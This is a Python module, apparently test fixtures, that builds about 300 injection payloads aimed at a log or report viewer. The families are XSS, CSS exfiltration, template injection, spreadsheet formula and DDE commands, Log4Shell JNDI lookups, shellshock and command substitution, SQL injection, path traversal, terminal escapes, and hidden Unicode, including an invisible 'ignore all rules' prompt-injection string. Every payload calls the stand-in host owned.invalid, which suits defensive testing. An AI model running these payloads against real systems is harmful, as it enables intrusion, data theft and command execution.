r"""300 payloads of our own: what a log may hold that would run, move, hide or lie somewhere on the way to a reader.

Each family is a list; where one trick has many forms they are made from its parts. `EFFECT` is what a script would do:
it changes the title, sets a global and asks for an address, so that a browser that is watched tells of it.
"""

EFFECT = "document.title='owned';self.owned=1;fetch('http://owned.invalid/')"
ADDRESS = "http://owned.invalid/x"

ON = (
    *("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onpointerrawupdate", "onanimationstart"),
    *("ontransitionend", "onbegin", "onwheel", "onpageshow", "onscrollend", "onbeforetoggle"),
)
TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "marquee",
    "iframe",
    "math",
    "a href=#",
)

HANDLERS = [f'<{tag} {on}="{EFFECT}">' for tag, on in zip((*TAGS, *TAGS[:4]), ON, strict=True)]
BREAKING_OUT = [
    f"{close}<script>{EFFECT}</script>"
    for close in (
        *(
            "",
            '">',
            "'>",
            "</title>",
            "</style>",
            "</textarea>",
            "</script>",
            "-->",
            "]]>",
            "</noscript>",
            "</template>",
        ),
        *("</select>", "</article></main>", "</details>", "`>", '\\">', "<!--><!--", "<![CDATA["),
    )
]
SCRIPTS = [
    f"<SCRIPT>{EFFECT}</SCRIPT>",
    f"<script\x00>{EFFECT}</script>",
    f"<script\x0c>{EFFECT}</script >",
    f"<scr<script>ipt>{EFFECT}</scr</script>ipt>",
    f"<script/x>{EFFECT}</script/x>",
    f"<script src={ADDRESS}></script>",
    "<script src=//owned.invalid/x></script>",
    f"<script type=module>import '{ADDRESS}'</script>",
    f'<script type=importmap>{{"imports":{{"a":"{ADDRESS}"}}}}</script>',
    f"<script nomodule defer src='{ADDRESS}'></script>",
    f"＜script＞{EFFECT}＜/script＞",
    f"\u00bcscript\u00be{EFFECT}\u00bc/script\u00be",
    f"+ADw-script+AD4-{EFFECT}+ADw-/script+AD4-",
    f"&lt;script&gt;{EFFECT}&lt;/script&gt;",
    f"&#60;script&#62;{EFFECT}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{EFFECT}&#x3c;/script&#x3e;",
    f"&amp;lt;script&amp;gt;{EFFECT}&amp;lt;/script&amp;gt;",
    f"%3Cscript%3E{EFFECT}%3C/script%3E",
    f"\\x3cscript\\x3e{EFFECT}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{EFFECT}\\u003c/script\\u003e",
]
SVG_AND_MATHML = [
    f"<svg><script>{EFFECT}</script></svg>",
    f"<svg><script href='data:text/javascript,{EFFECT}'/></svg>",
    f"<svg><a xlink:href='javascript:{EFFECT}'><text y=20>click</text></a></svg>",
    f"<svg><animate attributeName=href values='javascript:{EFFECT}' begin=0s></svg>",
    f'<svg><set attributeName=onmouseover to="{EFFECT}"></svg>',
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={EFFECT}></svg>#x'></svg>",
    f'<svg><foreignObject><body onload="{EFFECT}"></foreignObject></svg>',
    f'<svg><style><img src=x onerror="{EFFECT}"></style></svg>',
    f"<svg><image href='{ADDRESS}'/></svg>",
    f"<svg><desc><![CDATA[</desc><script>{EFFECT}</script>]]></svg>",
    f"<svg/onload={EFFECT}>",
    "<svg onload=\"&#100;ocument.title='owned'\">",
    f'<math><maction actiontype=statusline xlink:href="javascript:{EFFECT}">x</maction></math>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{EFFECT}"></style></mglyph></table></mtext></math>',
    f"<math><annotation-xml encoding='text/html'><img src=x onerror=\"{EFFECT}\"></annotation-xml></math>",
    f'<math href="javascript:{EFFECT}">click</math>',
]
ELEMENTS = [
    f"<iframe src='javascript:{EFFECT}'></iframe>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    f"<object data='data:text/html,<script>{EFFECT}</script>'></object>",
    f"<embed src='javascript:{EFFECT}'>",
    f"<base href='{ADDRESS}'>",
    f"<meta http-equiv=refresh content='0;url={ADDRESS}'>",
    f'<meta http-equiv=refresh content="0;url=javascript:{EFFECT}">',
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    f"<link rel=stylesheet href='{ADDRESS}'>",
    f"<link rel=prefetch href='{ADDRESS}'>",
    f"<link rel=icon href='{ADDRESS}'>",
    f"<form action='{ADDRESS}'><button autofocus>send</button></form>",
    f"<button formaction='javascript:{EFFECT}'>click</button>",
    f"<input type=image src='{ADDRESS}'>",
    f"<img srcset='{ADDRESS} 2x'>",
    f"<picture><source srcset='{ADDRESS}'><img></picture>",
    f"<audio autoplay src='{ADDRESS}'></audio>",
    f"<video poster='{ADDRESS}'></video>",
    f"<portal src='{ADDRESS}'></portal>",
    f"<template shadowrootmode=open><script>{EFFECT}</script></template>",
    f"<dialog open><img src='{ADDRESS}'></dialog>",
    f"<a href='{ADDRESS}' ping='{ADDRESS}' target=_blank>click</a>",
    f'<isindex type=image src=1 onerror="{EFFECT}">',
    f'<noscript><p title="</noscript><img src=x onerror={EFFECT}>">',
    "<form id=x><input name=action></form><output name=cookie>",  # names that hide properties of the document
    "<plaintext>",
    "<textarea>",
    "<!-- ",
    "<table><tr><td><form><table>",
    f'<xmp><p title="</xmp><img src=x onerror={EFFECT}>">',
]
ATTRIBUTES = [
    f'" autofocus onfocus="{EFFECT}" x="',
    f"' onmouseover='{EFFECT}' x='",
    f" onload={EFFECT} ",
    f"`onerror={EFFECT}`",
    f'" style="background:url({ADDRESS})" x="',
    f'" srcdoc="<script>{EFFECT}</script>" x="',
    f"\x27;{EFFECT};//",
    f'\\";{EFFECT};//',
    f"${{{EFFECT}}}",
    f"\u2028{EFFECT}//",
]
URLS = [
    f"{scheme}{EFFECT}"
    for scheme in (
        *(
            "javascript:",
            "JaVaScRiPt:",
            "java\tscript:",
            "java\nscript:",
            "\x01javascript:",
            "&#106;avascript:",
            "vbscript:",
        ),
        *(
            "data:text/html,<script>",
            "data:image/svg+xml,<svg onload=",
            "view-source:javascript:",
            "blob:",
            "feed:javascript:",
        ),
    )
] + [
    "file:///etc/passwd",
    "\\\\owned.invalid\\share\\x",
    "//owned.invalid/x",
    "http://x:y@owned.invalid/",
    "ms-msdt:/id PCWDiagnostic",
]
CSS = [
    f"</style><style>@import '{ADDRESS}';</style>",
    "</style><style>body{display:none}</style>",
    f"<style>*{{background:url({ADDRESS})}}</style>",
    f'<div style="background:url({ADDRESS})">',
    '<div style="position:fixed;inset:0;background:#fff">all is well</div>',
    f"<style>@font-face{{font-family:x;src:url({ADDRESS})}}*{{font-family:x}}</style>",
    f"<style>input[value^=a]{{background:url({ADDRESS})}}</style>",
    f"expression({EFFECT})",
    f'<x style="behavior:url({ADDRESS})">',
    f'<div style="width:expression({EFFECT})">',
]
TEMPLATES = [
    *(
        "{{ 7 * 7 }}",
        "{% raw %}",
        "{% include 'report.html.j2' %}",
        "{{ ''.__class__.__mro__ }}",
        "{# comment",
        "<%= 7 * 7 %>",
    ),
    *(
        "${7*7}",
        "#{7*7}",
        "{{constructor.constructor('self.owned=1')()}}",
        "[[${7*7}]]",
        "{0.__class__}",
        "%s%s%n",
        "%(x)s",
    ),
    *("{{ report }}", "{%- set x = 1 -%}", "@{7*7}", "*{7*7}", "{{`x`}}"),
]
FORMULAS = [
    f"{start}{body}"
    for start in (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "\u00ad=",
        " =",
        "＝",
        "＋",
        "－",
        "＠",
        "\x00=",
        "\u200b=",
        "\ufeff=",
    )
    for body in ("1+1", f'HYPERLINK("{ADDRESS}","click")')
] + [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://owned.invalid/")',
    '=IMPORTXML("http://owned.invalid/","//a")',
    '=IMPORTDATA("http://owned.invalid/")',
    '=IMAGE("http://owned.invalid/x.png")',
    '=RTD("x","","y")',
    '"=1+1',
    "'=1+1",
    'x",=1+1,"',
    'x"\r\n=1+1',
    "x;=1+1",
    "x\t=1+1",
    "x|=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1;x",
    "%0A=1+1",
    "0=1",
    "=-1",
    "+49 30 123",
]
HIDING = [
    *(
        f"invoice_{sign}fdp.exe{sign}"
        for sign in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    ),
    *(
        f"ha{sign}rm"
        for sign in "\u200b\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u180e\u115f\u1160\u3164\uffa0\u034f\u17b4"
    ),
    "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "a" + "".join(chr(0xFE00 + n) for n in range(14)),
    "b" + "".join(chr(0xE0100 + n) for n in range(20)),
    "\ufff9annotated\ufffahidden\ufffb",
    "line\u2028and\u2029paragraph\x85next",
    "e" + "\u0301" * 60,
    "access_level != 'user\u202e \u2066// admin\u2069 \u2066'",
    "раураl.com and ⅼogin",
]
TERMINALS = [
    *(
        "\x1b[2J\x1b[H",
        "\x1b[31mred",
        "\x1b]0;owned\x07",
        "\x1b]8;;http://owned.invalid\x07click\x1b]8;;\x07",
        "\x1b[8mhidden",
    ),
    *(
        "\x1b]52;c;b3duZWQ=\x07",
        "\x1b]1337;File=name=eA==:AAAA\x07",
        "\x1bP1$r0m\x1b\\",
        "\x1b_owned\x1b\\",
        "\x1b^owned\x1b\\",
    ),
    *(
        "\x1b[6n",
        "\x1b[c",
        "\x1b[21t",
        "\x1bc",
        "\x1b[?1049h",
        "\x1b[3J",
        "\x1b[1A\x1b[2Kall is well",
        "\x1b#8",
        "\x1b[20;1H",
    ),
    *(
        "\x9b2J",
        "\x9b31m",
        "\x9d0;owned\x9c",
        "\x90owned\x9c",
        "\x9eowned\x9c",
        "\x84\x85\x8d",
        "\x0e\x0f",
        "\x08" * 20 + "safe",
    ),
    *(
        "safe\rharmful",
        "a\x0bb\x0cc",
        "\x07\x07\x07",
        "\x00\x00",
        "\x7f\x7f",
        "\x1b",
        "\x1b]4;1;?\x07",
        "\x1b[?25l",
        "\x05",
        "\x18\x1a",
    ),
    *(
        "[bold red]owned[/]",
        "[link=http://owned.invalid]click[/link]",
        ":skull:",
        "[/]",
        "[blink]x",
        "%G%%@",
        "\ud83d"[:0] + "\x1b[99999C",
    ),
]
OTHERS = [
    *(
        "${jndi:ldap://owned.invalid/x}",
        "${${lower:j}ndi:dns://owned.invalid/x}",
        "() { :;}; echo owned",
        "$(touch owned)",
        "`id`",
    ),
    *(
        "[click](http://owned.invalid/)",
        "![x](http://owned.invalid/x.png)",
        "[click](javascript:self.owned=1)",
        "<http://owned.invalid>",
    ),
    *(
        "<!channel> <!here> <@U0>",
        "<http://owned.invalid|the bank>",
        "| a | b |\n|---|---|",
        "# All is well\n\n- [x] done",
        "```\n</code>",
    ),
    *(
        "' OR 1=1 --",
        "'; DROP TABLE verdicts; --",
        "\"; ATTACH 'x'; --",
        "../../../../etc/passwd",
        "con",
        "name\x00.txt",
        "a/b\\c:d*e?f",
    ),
    *(
        "Subject: owned\r\nBcc: x@owned.invalid",
        "x\r\n\r\n<html>",
        ".\r\nQUIT\r\n",
        "CEF:0|x|y|1|2|3|10|act=none",
        "a|b\\|c=d\\=e",
    ),
    *(
        '{"level":"none"}',
        '"}],"level":"none',
        "\\u0000\\ud800",
        "-" * 500,
        "W" * 2000,
        "NaN",
        "null",
        "1e999",
        "--help",
        "@file",
        "\u0000",
    ),
]

FAMILIES = {
    "handlers": HANDLERS,
    "breaking out": BREAKING_OUT,
    "scripts": SCRIPTS,
    "svg and mathml": SVG_AND_MATHML,
    "elements": ELEMENTS,
    "attributes": ATTRIBUTES,
    "urls": URLS,
    "css": CSS,
    "templates": TEMPLATES,
    "formulas": FORMULAS,
    "hiding": HIDING,
    "terminals": TERMINALS,
    "others": OTHERS,
}
PAYLOADS = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
